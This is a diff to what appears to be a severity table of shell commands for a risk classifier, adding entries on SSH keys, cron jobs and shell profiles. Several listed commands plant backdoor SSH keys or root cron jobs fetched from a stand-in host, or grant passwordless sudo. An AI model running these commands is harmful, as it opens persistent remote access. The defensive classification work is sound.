@@ -199,6 +199,7 @@ ACCESS_KEPT = [
     ('echo "$(wget -qO- http://x.example/k)" >> ~/.ssh/authorized_keys', CRITICAL),
     ("sudo bash -c \"echo 'bob ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/bob\"", CRITICAL),
     ("echo 'LD_PRELOAD=/tmp/x.so' >> ~/.ssh/environment", HIGH),
+    ('echo "$(curl -s http://x.example/k)" | tee -a ~/.ssh/authorized_keys', CRITICAL),
 ]
 
 UNITS_AND_AGENTS = [
@@ -368,6 +369,9 @@ CRON_AND_AT = [
     (": | crontab -", HIGH),
     ("sudo rm /var/spool/cron/crontabs/*", HIGH),
     ("sudo systemctl disable --now cron", HIGH),
+    ('echo "0 0 * * * root $(curl -s http://x.example/cmd)" | sudo tee /etc/cron.d/x', CRITICAL),
+    ("wget -O /etc/cron.d/x http://x.example/c", CRITICAL),
+    ("sudo rsync -a host:cronjobs/ /etc/cron.d/", HIGH),
 ]
 
 GIT_LOSSES = [
@@ -783,6 +787,7 @@ PERSISTENCE_NEAR = [
         "echo 'exec_always --no-startup-id ~/.config/polybar/launch.sh' >> ~/.config/i3/config",
         MODERATE,
     ),
+    ('echo "export PATH=$(go env GOPATH)/bin:\\$PATH" | tee -a ~/.bashrc', MODERATE),
 ]
 
 SCHEDULING_NEAR = [
